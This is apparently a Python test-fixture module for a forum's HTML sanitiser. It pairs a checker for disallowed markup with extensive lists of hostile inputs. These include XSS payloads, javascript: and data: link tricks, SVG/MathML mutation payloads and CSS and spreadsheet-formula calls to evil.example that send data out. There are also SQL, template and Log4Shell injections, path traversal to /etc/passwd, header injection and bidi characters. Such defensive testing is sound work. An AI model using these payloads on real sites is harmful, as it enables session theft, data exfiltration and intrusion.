"""Hostile texts of our own making, and the judge of what came of them.

`ATTACKS` holds every string of the lists below it. Each is tried as a post, as a title and as raw markup; `violations`
says what in a rendered piece of user content is not allowed there. Nothing here uses the code it is meant to test.
"""

import html
import re
from collections.abc import Iterator
from functools import lru_cache
from typing import Any
from urllib.parse import unquote, urlsplit

import html5lib  # type: ignore[import-untyped]  # ships no types

DIRECTED = ("blockquote", "h3", "h4", "h5", "li", "p", "pre")
ALLOWED: dict[str, frozenset[str]] = {
    "a": frozenset({"href", "rel"}),
    **{directed: frozenset({"dir"}) for directed in ("bdi", "bdo", *DIRECTED)},
    **{plain: frozenset() for plain in ("br", "code", "em", "ol", "strong", "ul")},
}
TELEPHONE = re.compile(r"tel:\+?[0-9]{3,15}")
REL = "nofollow ugc noopener noreferrer"
UNSEEN = re.compile(r"[\x00-\x20\x7f-\xa0\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069]")
UNREADABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufeff]")


@lru_cache(maxsize=10_000)  # A thread shows what was sent before to each of its readers.
def violations(markup: str) -> list[str]:
    """Everything in a piece of rendered user content that may not be there, one phrase each; empty when all is well."""
    found = [f"character U+{ord(sign):04X}" for sign in UNREADABLE.findall(markup)]
    for element in html5lib.parseFragment(markup, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in ALLOWED:
            found.append(f"element {element.tag}")
            continue
        found += [f"{element.tag} {name}" for name in element.attrib if name not in ALLOWED[element.tag]]
        found += _bad_values(element)
    return found


def _bad_values(element: Any) -> Iterator[str]:
    directions = ("ltr",) if element.tag in ("bdi", "bdo") else (None, "ltr", "rtl")
    if element.get("dir") not in directions:
        yield f"{element.tag} dir={element.get('dir')}"
    if element.tag == "a":
        href = element.get("href")
        if href is not None and not _harmless(href):
            yield f"href {href}"
        expected = None if href is None or href.startswith(("/", "tel:")) else REL
        if element.get("rel") != expected:
            yield f"rel {element.get('rel')} on {href}"


def _harmless(href: str) -> bool:
    """Judged as the most lenient reader would take it: entities and percent codes decoded, blanks and controls gone."""
    for reading in (href, html.unescape(href), unquote(html.unescape(href))):
        bare = UNSEEN.sub("", reading).replace("\\", "/")
        parts = urlsplit(bare.lower())
        web = parts.scheme in ("http", "https") and bool(parts.hostname) and not parts.username
        if not (
            web
            or parts.scheme == "mailto"
            or TELEPHONE.fullmatch(bare)
            or (bare.startswith("/") and not bare.startswith("//"))
        ):
            return False
    return True


def reparsed(markup: str) -> str:
    """The markup as a browser would give it back: parsed by the standard's algorithm, written by its serialisation."""
    return _inner(html5lib.parseFragment(markup, namespaceHTMLElements=False))


def _inner(element: Any) -> str:
    pieces = [_escaped(element.text)]
    for child in element:
        attributes = "".join(f' {name}="{_escaped(value)}"' for name, value in child.attrib.items())
        closing = "" if child.tag == "br" else f"{_inner(child)}</{child.tag}>"
        pieces += [f"<{child.tag}{attributes}>", closing, _escaped(child.tail)]
    return "".join(pieces)


def _escaped(text: str | None) -> str:
    escaped = html.escape(text or "", quote=False)
    return escaped.replace("\u00a0", "&nbsp;")


def _lines(block: str) -> tuple[str, ...]:
    """One text a line; ⏎ stands for a line break inside it."""
    return tuple(line.replace("⏎", "\n") for line in block.split("\n") if line)


SCRIPTS = _lines(r"""
<script>steal(document.cookie)</script>
<SCRIPT>steal()</SCRIPT>
<ScRiPt src=//evil.example/s.js></sCrIpT>
<script src="https://evil.example/s.js" async defer></script>
<script type=module>import "https://evil.example/m.js"</script>
<script⏎>steal()</script⏎>
<script/x>steal()</script>
<script>steal()
<script>/*</script><script>*/steal()</script>
<scr<script>ipt>steal()</scr</script>ipt>
<<script>steal()//<</script>
</p><script>steal()</script><p>
"><script>steal()</script>
'><script>steal()</script>
</textarea><script>steal()</script>
</title><script>steal()</script>
</style><script>steal()</script>
</script><script>steal()</script>
<noscript><p title="</noscript><img src=x onerror=steal()>">
<script>if (1 < 2) { steal("&lt;/script&gt;") }</script>
<script language=vbscript>MsgBox 1</script>
<script xmlns="http://www.w3.org/1999/xhtml">steal()</script>
""")

HANDLERS = _lines(r"""
<img src=x onerror=steal()>
<img src=x onerror="steal()">
<img/src=x/onerror=steal()>
<img src=`x` onerror=`steal()`>
<IMG SRC=x ONERROR=steal()>
<img src=x onerror=&#115;teal()>
<img src onerror=steal() alt="a>b">
<body onload=steal()>
<p onclick=steal()>press me</p>
<p onmouseover='steal()' style=position:fixed;inset:0>over</p>
<b onpointerenter=steal()>bold</b>
<a href="https://ok.example" onclick="steal()">go</a>
<a onfocus=steal() autofocus tabindex=0 href=/>go</a>
<input autofocus onfocus=steal()>
<select autofocus onfocus=steal()><option>1</select>
<textarea autofocus onfocus=steal()>x</textarea>
<video src=x onerror=steal()></video>
<audio autoplay onplay=steal() src=/a.ogg>
<details open ontoggle=steal()><summary>more</summary></details>
<marquee onstart=steal()>run</marquee>
<div onanimationstart=steal() style="animation:a 1s">x</div>
<p oncontentvisibilityautostatechange=steal() style=content-visibility:auto>x</p>
<bdi dir=ltr onclick=steal()>12</bdi>
<li onclick=steal()>point</li>
<br onload=steal()>
<code onbeforetoggle=steal()>x</code>
<blockquote cite="javascript:steal()" oncopy=steal()>said</blockquote>
<em	onclick⏎=⏎steal()>tabbed</em>
<strong/onclick/=/steal()>slashed</strong>
""")

FRAMES = _lines(r"""
<iframe src=javascript:steal()></iframe>
<iframe srcdoc="<script>parent.steal()</script>"></iframe>
<iframe src="https://evil.example/login"></iframe>
<object data=javascript:steal()></object>
<object type="text/html" data="//evil.example"></object>
<embed src=//evil.example/e.swf allowscriptaccess=always>
<applet code=Steal.class></applet>
<frameset><frame src=//evil.example></frameset>
<form action=https://evil.example/take><input name=password><button>Sign in</button></form>
<button formaction=javascript:steal()>go</button>
<input type=submit formaction=//evil.example value=Go>
<input type=image src=x formaction=javascript:steal()>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:steal()">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-steal()+ADw-/script+AD4-
<link rel=stylesheet href=//evil.example/s.css>
<link rel=import href=//evil.example/i.html>
<link rel=preload as=script href=//evil.example/s.js>
<style>@import "//evil.example/s.css"; p { color: red }</style>
<style>body{background:url(javascript:steal())}</style>
<portal src=//evil.example></portal>
<dialog open>Your session has ended</dialog>
<template><script>steal()</script></template>
<slot name=x onslotchange=steal()></slot>
<html manifest=//evil.example><body background=javascript:steal()>
""")

ATTRIBUTES = _lines(r"""
<p id=main>I am the page</p>
<p class=official>I speak for the institution</p>
<p style="background:url(//evil.example/seen)">tracked</p>
<p data-official=1 data-nickname=ACM>badge</p>
<p data-user-content data-post=1>inner post</p>
<a name=location href=/>clobbered</a>
<a id=forms><a id=forms name=body href="clobbered:1">twice</a>
<form id=x><input name=attributes></form>
<p lang=pt dir=rtl>turned round</p>
<bdi dir=rtl>12 34</bdi>
<bdi dir="LTR">12 34</bdi>
<bdi dir=auto class=official>12</bdi>
<a href=/ target=_blank rel=opener>opened</a>
<a href=https://ok.example rel="">no rel</a>
<a href=https://ok.example ping=//evil.example/ping>pinged</a>
<a href=/files download=passport.exe>take it</a>
<a href=/ accesskey=x>key</a>
<p hidden>not there</p>
<p contenteditable>write here</p>
<p tabindex=1 role=alert aria-live=assertive>Listen!</p>
<ol start=99 reversed type=a><li value=7>seven</ol>
<code class="language-official">x</code>
<h3 slot=title part=x is=x-y>head</h3>
<blockquote itemscope itemtype=http://schema.org/GovernmentService>said</blockquote>
<p xml:base="javascript:steal()" xmlns:x="x">based</p>
<p =x ">odd" '=y>attributes</p>
<p a="b"c="d"onclick="steal()">glued</p>
""")

FOREIGN = _lines(r"""
<svg onload=steal()>
<svg><script>steal()</script></svg>
<svg><script href=//evil.example/s.js /></svg>
<svg><a xlink:href="javascript:steal()"><text y=20>go</text></a></svg>
<svg><animate attributeName=href values=javascript:steal() /></svg>
<svg><set attributeName=onmouseover to=steal() /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
<svg><foreignObject><p onclick=steal()>in</p></foreignObject></svg>
<svg><style><img src=x onerror=steal()></style></svg>
<svg><desc><p>out</p></desc><title><b onclick=steal()>t</b></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=steal()>">
<svg><p><style><g title="</style><img src onerror=steal()>">
<svg><![CDATA[><img src=x onerror=steal()>]]></svg>
<math href=javascript:steal()>x</math>
<math><mi xlink:href="javascript:steal()">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=steal() src>">
<math><annotation-xml encoding="text/html"><script>steal()</script></annotation-xml></math>
<math><maction actiontype="statusline#https://ok.example" xlink:href=javascript:steal()>x</maction></math>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">steal()</svg:script>
<svg><em>em breaks out</em><p>and so does p</p></svg>
<svg><br><a href=javascript:steal()>x</a></svg>
""")

MUTATIONS = _lines(r"""
<table><p>fostered<script>steal()</script></table>
<table><tr><td><a href=javascript:steal()>cell</a></table>
<table background=javascript:steal()><caption onclick=steal()>c</caption></table>
<p><table><p></table>
<a href=/one><a href=javascript:steal()>two</a></a>
<a href=/one>one<p>two<a href=/three>three</p></a>
<em><p>misnested</em></p>
<b><i>one</b>two</i>
<em><strong><em><strong><em><strong>deep</p>
<p><em></p><p>again</p></em>
<li>without<li>a list⏎</li></ul></ol></blockquote></p>
</br><br/></br>
<p/><p/>
<h3><h4>headings</h3></h4>
<pre>⏎⏎<code>two lines</pre></code>
<plaintext>the rest of the page
<xmp><img src=x onerror=steal()></xmp>
<listing>&lt;img src=x onerror=steal()&gt;</listing>
<noembed><img src=x onerror=steal()></noembed>
<noframes></noframes><img src=x onerror=steal()>
<textarea></textarea><img src=x onerror=steal()>
<title>&lt;/title&gt;&lt;img src=x onerror=steal()&gt;</title>
<style><style/><img src=x onerror=steal()>
<select><template><img src=x onerror=steal()></template></select>
<select><p>in select</p><svg><style></select><img src=x onerror=steal()>
<option><style></option></select><img src=x onerror=steal()></style>
<form><div></form><form><input name=x>
<image src=x onerror=steal()>
<isindex action=javascript:steal() type=image>
<ruby><rt><script>steal()</script></ruby>
<nobr><nobr>twice
<frameset><p>
<a href="x" href="javascript:steal()">second one</a>
<img src="`><script>steal()</script>">
<p title="a<b onclick=steal()>c">quoted</p>
<!doctype html><html><head><body><p>whole page</p></body></html>
""")

COMMENTS = _lines(r"""
<!-- a comment -->
<!--><script>steal()</script>-->
<!---><script>steal()</script>-->
<!--[if IE]><script>steal()</script><![endif]-->
<!-- --!><img src=x onerror=steal()> -->
<!-- a -- b ---><b>c</b>
<!-x--><img src=x onerror=steal()>
<![CDATA[<script>steal()</script>]]>
]]><script>steal()</script>
<?xml version="1.0"?><?xml-stylesheet href="javascript:steal()"?>
<?php system($_GET['x']); ?>
<% Response.Write(1) %>
<!ENTITY x SYSTEM "file:///etc/passwd">&x;
<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]>&d;
<!--#exec cmd="id" -->
</!--><b>x
<//a><b>y</b>
<!-- unfinished
<!
</
<
""")

SCHEMES = _lines(r"""
[go](javascript:steal())
[go](JaVaScRiPt:steal())
[go](javascript://ok.example/%0asteal())
[go](javascript&#58;steal())
[go](javascript&colon;steal&lpar;&rpar;)
[go](&#106;&#97;vascript:steal())
[go](&#x6A;&#x61;vascript:steal())
[go](&#0000106avascript:steal())
[go](java&Tab;script:steal())
[go](java&NewLine;script:steal())
[go](java&#9;script:steal())
[go](java%0ascript:steal())
[go](%6Aavascript:steal())
[go](javascript%3Asteal())
[go](\javascript:steal())
[go](javascript\:steal())
[go](\u006aavascript:steal())
[go](\x6aavascript:steal())
[go](<javascript:steal()>)
[go](< javascript:steal()>)
[go](<java	script:steal()>)
[go]( javascript:steal() )
[go](vbscript:MsgBox(1))
[go](livescript:steal())
[go](mocha:steal())
[go](data:text/html,<script>steal()</script>)
[go](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)
[go](data:image/svg+xml,<svg onload=steal()>)
[go](data:image/png;base64,iVBORw0KGgo=)
[go](DATA:,x)
[go](blob:https://ok.example/1)
[go](filesystem:https://ok.example/x)
[go](file:///etc/passwd)
[go](about:blank)
[go](view-source:javascript:steal())
[go](jar:https://evil.example!/x)
[go](intent://evil.example#Intent;scheme=https;end)
[go](ms-settings:privacy)
[go](tel:+351800000000)
[go](sms:+351800000000?body=yes)
[go](ftp://evil.example/x)
[go](ws://evil.example)
[go](chrome://settings)
[go](x-unknown:thing)
[go](:javascript:steal())
[go](feed:javascript:steal())
[go](http:javascript:steal())
[go](https:evil.example)
[go](https:/evil.example)
[go](https:///evil.example)
[go](https:\\evil.example)
[go](http://)
[go](https://?x)
[go](https://ok.example@evil.example/)
[go](https://ok.example:secret@evil.example/)
[go](https://ok.example\@evil.example/)
[go](https://ok.example&commat;evil.example/)
[go](https://ok.example%40evil.example/)
[go](https://evil.example#@ok.example/)
[go](https://[::1]/)
[go](https://0x7f.1/)
[go](//evil.example)
[go](///evil.example)
[go](/\evil.example)
[go](/&#47;evil.example)
[go](/&sol;evil.example)
[go](/%2fevil.example)
[go](/%5Cevil.example)
[go](/&bsol;evil.example)
[go](\\evil.example)
[go](\/\/evil.example)
[go](/.//evil.example)
[go](/&#9;/evil.example)
[go](&#x2f;&#x2f;evil.example)
[go](&amp;#x2f;/evil.example)
[go](javascript&amp;colon;steal())
[go](./relative)
[go](../up)
[go](#top)
[go](?next=//evil.example)
[go]()
[go](<>)
[go](mailto:a@b.example?bcc=everyone@evil.example&body=x)
[go](mailto:a@b.example%0d%0abcc:x@evil.example)
[go](mailto://evil.example)
[go](mailto:javascript:steal())
""")

RAW_LINKS = _lines(r"""
<a href="javascript:steal()">go</a>
<a href="javascript:1">go</a>
<a href=javascript&colon;steal()>go</a>
<a href="&#1;javascript:steal()">go</a>
<a href="java&#0;script:steal()">go</a>
<a href="  javascript:steal()">go</a>
<a href="jav	ascript:steal()">go</a>
<a href="java&#xA;script:steal()">go</a>
<a href="javascript&#x3A;steal()">go</a>
<a href="&#x6a;avascript:steal()">go</a>
<a href="vbscript:x">go</a>
<a href="data:text/html,x">go</a>
<a href="//evil.example">go</a>
<a href="/\evil.example">go</a>
<a href="\\evil.example">go</a>
<a href="/&Tab;/evil.example">go</a>
<a href="https:evil.example">go</a>
<a href="https://ok.example@evil.example">go</a>
<a href="https://ok.example">bare</a>
<a href="/en/topics">own</a>
<a href="relative">relative</a>
<a href="#x">fragment</a>
<a href="">empty</a>
<a href>no value</a>
<a>no address</a>
<a href="mailto:a@b.example">mail</a>
<a href="HTTPS://OK.EXAMPLE/?a=1&b=2&copy=3">loud</a>
<a href="https://ok.example/&quot; onclick=&quot;steal()">quoted</a>
<a href='https://ok.example/"onclick="steal()'>single</a>
<a xlink:href="javascript:steal()">linked</a>
<a href="javascript:steal()" href="/">first one</a>
""")

AUTOLINKS = _lines(r"""
<javascript:steal()>
<JAVASCRIPT:steal()>
<data:text/html,x>
<vbscript:x>
<https://ok.example/"onclick="steal()>
<https://ok.example/<script>steal()</script>>
<https://ok.example@evil.example>
<https://ok.example/&#x202e;gpj.exe>
<mailto:a@b.example?subject=x"onclick="steal()>
<a@b.example"onclick=steal()>
<//evil.example>
<ok.example>
javascript:steal()
javascript://ok.example/%0asteal()
https://ok.example/"onclick="steal()
https://ok.example/'onclick='steal()
https://ok.example/<script>steal()</script>
https://ok.example/?q=<img src=x onerror=steal()>
https://ok.example/%22%3E%3Cscript%3Esteal()%3C/script%3E
https://ok.example/%E2%80%AEgpj.exe
https://ok.example/&#x202e;gpj.exe
https://ok.example/**bold**_em_`code`
https://ok.example/[x](javascript:steal())
[https://ok.example](https://evil.example)
[x](https://ok.example)[y](https://ok.example)https://ok.example
https://ok.example@evil.example
https://xn--80ak6aa92e.example/
http://www.www.www.example
www.ok.example/"onclick="steal()
www.ok.example<script>steal()</script>
acm.pt/"><b onclick=steal()>
a"onclick="steal()"@b.example
"><script>steal()</script>@b.example
mailto:a@b.example?body=<script>
//evil.example/x
ftp://evil.example/x
http\://ok.example
ontem.Eu fui.Com eles.No centro
""")

TITLED_LINKS = _lines(r"""
[go](https://ok.example "title")
[go](https://ok.example "\"onclick=\"steal()")
[go](https://ok.example 'x" onclick="steal()')
[go](https://ok.example (x" onclick="steal()))
[go](https://ok.example "&quot; onclick=&quot;steal()")
[go](https://ok.example "</a><script>steal()</script>")
[go](https://ok.example" onclick="steal())
[go](https://ok.example' onclick='steal())
[go](https://ok.example` onclick=`steal())
[go](https://ok.example> onclick=steal())
[go](<https://ok.example> onclick=steal())
[go](https://ok.example\" onclick=\"steal())
[<script>steal()</script>](https://ok.example)
[<img src=x onerror=steal()>](/)
[a [b](javascript:steal()) c](https://ok.example)
[a [b](https://one.example) c](https://two.example)
[a <https://one.example> c](https://two.example)
[a](https://ok.example){onclick=steal()}
[a](https://ok.example){: .official #main}
[a](https://ok.example)<!-- -->(javascript:steal())
[](https://ok.example)
[ ](https://ok.example)
[&#8203;](https://ok.example)
""")

REFERENCES = _lines(r"""
[go][1]⏎⏎[1]: javascript:steal()
[go][1]⏎⏎[1]: https://ok.example "x\" onclick=\"steal()"
[go][1]⏎⏎[1]: <javascript:steal()>
[go][1]⏎⏎[1]: data:text/html,x
[go][]⏎⏎[go]: //evil.example
[go]⏎⏎[go]: /\evil.example
[1]: https://ok.example
[Nota]: importante
![x][1]⏎⏎[1]: javascript:steal()
[a]: <x> "y⏎z"⏎⏎[a]
[^1]⏎⏎[^1]: <script>steal()</script>
[__proto__][constructor]⏎⏎[constructor]: https://ok.example
*[abbr]: <script>steal()</script>
""")

IMAGES = _lines(r"""
![seen](https://evil.example/pixel.gif)
![seen](//evil.example/pixel.gif)
![x](x"onerror="steal())
![x" onerror="steal()](https://ok.example/x.png)
![x](https://ok.example/x.png "y\" onload=\"steal()")
![x](javascript:steal())
![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
![](https://ok.example/x.png)
[![x](https://ok.example/x.png)](https://ok.example)
[![x](javascript:steal())](javascript:steal())
![![x](https://a.example)](https://b.example)
![[x](javascript:steal())](https://b.example)
![<script>steal()</script>](https://ok.example)
![x](/own.png){width=1 onerror=steal()}
![x](
""")

TEMPLATES = _lines(r"""
{{7*7}}
{{ config.items() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{# not shown #}{{ self }}
{{"<script>steal()</script>"|safe}}
${7*7}
${jndi:ldap://evil.example/a}
#{7*7}
*{7*7}
<%= 7*7 %>
@(7*7)
[[${7*7}]]
{{constructor.constructor('steal()')()}}
{{{{7*7}}}}
%s %d %(password)s %n
{0.__class__} {settings.FORUM_SECRET}
$(id) `id` ; id | id && id
#set($x=7*7)$x
\{\{7*7\}\}
""")

QUERIES = _lines(r"""
' OR '1'='1
'; DROP TABLE threads; --
" OR ""="
1; UPDATE accounts SET role='admin'
' UNION SELECT password FROM accounts --
\' OR 1=1 --
%' AND title LIKE '%
') ; VACUUM INTO '/tmp/x' ; --
NEAR(a b) AND title:* OR "
a:* & !b | (c <-> d)
$$; SELECT pg_sleep(9); $$
x'; COPY posts TO PROGRAM 'id'; --
{"$gt": ""}
*)(uid=*))(|(uid=*
../../../../etc/passwd
..\..\windows\win.ini
/etc/passwd%00.html
=HYPERLINK("https://evil.example","go")
@SUM(1+1)*cmd|' /C calc'!A0
+351 920 000 941<script>steal()</script>
""")

HEADERS = (
    "title\r\nSet-Cookie: session=evil",
    "title\r\n\r\n<script>steal()</script>",
    "title\nBcc: everyone@evil.example",
    "title\rLocation: //evil.example",
    "title%0d%0aSet-Cookie: a=b",
    "title\u2028Set-Cookie: a=b\u2029x",
    "title\x85X-Evil: 1",
    "title\x0bX\x0cY\x1cZ",
    "嘊嘍Set-Cookie: a=b",
    "\r\n\r\n\r\n",
    "line\n.\nMAIL FROM:<x@evil.example>",
    "=?utf-8?B?PHNjcmlwdD4=?=",
)

CONTROLS = (
    "a\x00b",
    "<scr\x00ipt>steal()</scr\x00ipt>",
    "<\x00script>steal()</script>",
    "[go](java\x00script:steal())",
    "[go](\x01javascript:steal())",
    "[go](java\tscript:steal())",
    "[go](java\nscript:steal())",
    "[go](java\rscript:steal())",
    "[go](\x0cjavascript:steal())",
    "[go](/\t/evil.example)",
    "[go](/\x00/evil.example)",
    "<a href='\x08javascript:steal()'>go</a>",
    "<a href='java\x1bscript:steal()'>go</a>",
    "<img\x0csrc=x\x0conerror=steal()>",
    "\x1b[2J\x1b]0;evil\x07red",
    "bell\x07 back\x08space del\x7f csi\x9b31m",
    "&#0;&#1;&#11;&#12;&#127;&#128;&#159;",
    "&#xD800;&#xDFFF;&#x110000;&#xFFFE;&#xFFFF;",
    "&#13;&#10;Set-Cookie: a=b",
    "\x00",
)

INVISIBLE = (
    "\ufeff<script>steal()</script>",
    "[go](java\u200bscript:steal())",
    "[go](\u200bjavascript:steal())",
    "[go](java\u00adscript:steal())",
    "[go](\u00a0javascript:steal())",
    "[go](\u3000javascript:steal())",
    "[go](/\u200b/evil.example)",
    "[go](https://ok\u200b.example)",
    "[go](https://ok.example\u2044@evil.example)",
    "[go](https://ok.example\uff0fevil.example)",
    "[go](\uff4aavascript:steal())",
    "[go](javascript\uff1asteal())",
    "\uff1cscript\uff1esteal()\uff1c/script\uff1e",
    "\u2039script\u203asteal()\u2039/script\u203a",
    "<\u017fcript>steal()</\u017fcript>",
    "<\u212aBD>x</\u212aBD>",
    "<p \u2028onclick=steal()>x</p>",
    "\u200b\u200c\u200d\u2060\u00ad",
    "o\u200bf\u200bf\u200bi\u200bc\u200bi\u200ba\u200bl",
    "\U000e0068\U000e0069\U000e0064\U000e0065 tags",
    "\u3164\u115f\u1160\uffa0",
    "a\ufff9b\ufffac\ufffbd",
    "a\ufffeb\uffffc\U0001fffed",
    "\u0410\u0421\u041c official",
    "раура\u04cf.example https://раура\u04cf.example",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f 1\ufe0f\u20e3",
    "\U00010ffff\U0010fffd\ue000",
)

BIDI = (
    "\u202eesrever",
    "safe\u202egpj.exe",
    "\u202a\u202b\u202c\u202d\u202e",
    "\u2066\u2067\u2068 open isolates",
    "\u2069\u2069\u2069 only closings",
    "a\u2067b\u2069c\u2066d",
    "[\u202etxt](https://ok.example)",
    "[go](https://ok.example/\u202egpj.exe)",
    "[go](\u202ejavascript:steal())",
    "https://ok.example/\u202egpj.exe",
    "&#8238;esrever &#x202E;again &#x2067;isolated",
    "**\u202ebold** after",
    "`\u202ecode` after",
    "```\n\u202efence\n```\nafter",
    "\u202e" * 500 + "x",
    "\u200e\u200f\u061c marks alone",
    "\u05d0 12-34 \u202d56-78\u202c \u05d1",
    "<bdo dir=rtl>esrever</bdo>",
    "\u206a\u206b\u206c\u206d\u206e\u206f old",
)

PILED_MARKS = (
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030fa",
    "o" + "\u0336\u0489\u20dd" * 30,
    "e" + "\u0301" * 1000,
    "\u0301" * 50,
    "a" + "\u0301\u200d" * 40,
    "a" + "\u0301\u034f" * 40,
    "a" + "&#x301;" * 40,
    "a" + "*\u0301\u0301\u0301\u0301\u0301\u0301*" * 10,
    "\u0e2a" + "\u0e47" * 60,
    "\u0628" + "\u0651\u064e" * 40,
    "\u0995" + "\u09cd\u0981" * 40,
    "\u05d0" + "\u05b0\u05bc\u0591" * 40,
    "[x" + "\u0489" * 40 + "](https://ok.example)",
    "\u0344" * 20,
    "\u1ab0\u1dc0\u20d0\ufe20" * 20,
)

OVERLONG = (
    "a" * 5_000,
    "\u4f60" * 3_000,
    "https://ok.example/" + "a" * 3_000,
    "https://" + "a." * 500 + "example",
    "https://" + "a" * 300 + ".example",
    "[" + "a" * 2_000 + "](https://ok.example)",
    "[go](" + "a" * 2_000 + ")",
    "&" + "a" * 2_000 + ";",
    "&#" + "1" * 2_000 + ";",
    "1" * 5_000 + ". list",
    "1 " * 2_000,
    "+" * 2_000 + "1",
    "<" + "a" * 2_000 + ">",
    "<p " + "a=b " * 500 + ">",
    "#" * 2_000 + " head",
    "`" * 2_001,
    "\n" * 3_000 + "x",
    " " * 3_000 + "x",
    "\t" * 1_000 + "x",
    "|www." * 300,
    "a@" + "a.xn--" * 60,
    "http://" + "a.xn--" * 60,
    "http://a." * 300,
    "a@" * 500,
    "~~~\n" * 300,
    "*a*\n\n" * 300,
)

NESTING = (
    ">" * 400 + " deep",
    "> " * 400 + "deep",
    "- " * 400 + "deep",
    "1. " * 400 + "deep",
    "> - " * 200 + "deep",
    "* + - " * 100 + "deep",
    "\n".join("  " * depth + "- point" for depth in range(60)),
    "\n".join(">" * depth + " said" for depth in range(60)),
    "[" * 500 + "a" + "](/b)" * 500,
    "![" * 300 + "a" + "](/b)" * 300,
    "*a " * 300 + "b*" * 300,
    "**a " * 300 + "b**" * 300,
    "*_" * 300 + "a" + "_*" * 300,
    "*a **b " * 200,
    "_a __b " * 200,
    "`a ``b ```c " * 100,
    "(" * 500 + ")" * 500,
    "<p>" * 300,
    "<em>" * 300 + "x",
    "<blockquote>" * 200 + "<script>steal()</script>",
    "<svg>" * 100 + "<p onclick=steal()>x",
    "<table>" * 60 + "x",
    "</p>" * 200,
    "<!--" * 200,
    "<![CDATA[" * 200,
)

BLOCKS = _lines(r"""
```"><script>steal()</script>⏎x⏎```
```js onclick=steal()⏎x⏎```
``` {.official #main onclick=steal()}⏎x⏎```
~~~<img src=x onerror=steal()>⏎x⏎~~~
```⏎</code></pre><script>steal()</script>⏎```
```⏎never closed
`</code><script>steal()</script>`
`` ` <b onclick=steal()> ` ``
    <script>steal()</script>
# <script>steal()</script>
# Head {#main .official onclick=steal()}
#⏎##⏎text
Head⏎====⏎<script>steal()</script>⏎----
> <script>steal()</script>⏎lazy
- <script>steal()</script>⏎- [x] done⏎- [ ] not
1. <img src=x onerror=steal()>⏎2. <b>
0. nought⏎007. bond⏎999999999. last⏎1234567890. too long
---⏎***⏎___
<div>⏎*markdown inside*⏎</div>
<script>⏎**steal()**⏎</script>
<!--⏎# hidden⏎-->
a | b⏎--|--⏎<script>steal()</script> | c
: term⏎: <script>steal()</script>
\<script\>steal()\</script\>
\\<script>steal()</script>
&lt;script&gt;steal()&lt;/script&gt;
&amp;lt;script&amp;gt;steal()
&lt;img src=x onerror=steal()&gt;
&#60;script&#62;steal()&#60;/script&#62;
&LT;script&GT;&quot;&apos;&nbsp;&amp;
&ltscript&gtsteal()
+ADw-script+AD4-steal()+ADw-/script+AD4-
%3Cscript%3Esteal()%3C/script%3E
\u003cscript\u003esteal()\u003c/script\u003e
\x3cscript\x3esteal()
¼script¾steal()¼/script¾
""")

NUMBERS = _lines(r"""
22 207 38 10"><script>steal()</script>
<b>22 207 38 10</b>
12<b>-34
+351 920 000 941</bdi><script>steal()</script>
<bdi dir="ltr">22 207 38 10</bdi>
1<2-3>4 5-6&7-8"9-10'
&#50;2 207 38 10
4050&#45;276
[22 207 38 10](javascript:steal())
[22 207 38 10](https://ok.example/22-207)
`22 207 38 10`
""")

STYLES = _lines(r"""
<p style="width:expression(steal())">old</p>
<p style="behavior:url(//evil.example/x.htc)">bound</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">bound</p>
<p style="background:u\72l(//evil.example/seen)">escaped</p>
<p style="background:url&#40;//evil.example/seen&#41;">entities</p>
<p style="background:/**/url(//evil.example/seen)">comment</p>
<p style="--x:url(//evil.example);background:var(--x)">variable</p>
<p style="position:fixed;inset:0;z-index:9;opacity:0">over everything</p>
<p style="content:attr(data-token)">attribute</p>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/f);unicode-range:U+41}</style>
<style>@import'//evil.example/s.css'</style>
<style>@charset "utf-7";</style>
<style>*{animation:x}@keyframes x{from{background:url(//evil.example)}}</style>
<style></style/><script>steal()</script>
<style>{}</style></p><style media=print>p{display:none}
<svg><style>{font-family:'<iframe/onload=steal()>'}</style></svg>
<svg><style>&lt;/style&gt;&lt;script&gt;steal()&lt;/script&gt;</style></svg>
<svg><filter><feImage href=//evil.example/seen /></filter></svg>
<svg><image href=//evil.example/seen onload=steal() /></svg>
<svg><handler type=text/javascript>steal()</handler></svg>
<svg><listener event=load handler=#x /></svg>
<svg><animateTransform onbegin=steal() attributeName=x dur=1s /></svg>
<svg><animate xlink:href=#x attributeName=href from=javascript:steal() to=/ /><a id=x>go</a></svg>
<svg><discard onbegin=steal() /></svg>
<svg><view id=x /><script xlink:href=data:,steal() /></svg>
<svg><metadata><x:script xmlns:x=http://www.w3.org/1999/xhtml>steal()</x:script></metadata></svg>
<svg><text><textPath href=javascript:steal()>x</textPath></text></svg>
<link rel=stylesheet href=data:text/css,*{display:none}>
<p class="visually-hidden">not seen, heard</p>
<p class="badge badge-official">Official answer</p>
""")

CELLS = _lines(r"""
=HYPERLINK("https://evil.example/?"&A1,"Press here")
=1+1
+1+1
-1+1
@SUM(A1:A9)
=cmd|' /C calc'!A0
=DDE("cmd";"/C calc";"x")
=WEBSERVICE("https://evil.example/"&A2)
=IMPORTXML("https://evil.example/","//a")
=IMPORTDATA("https://evil.example/?"&B2)
=IMAGE("https://evil.example/"&C2)
-2+3+cmd|' /C calc'!A0
@A1+"x"
+HYPERLINK("https://evil.example")
=1";=2
=1,=2
";=1+1
",=1+1
'=1+1
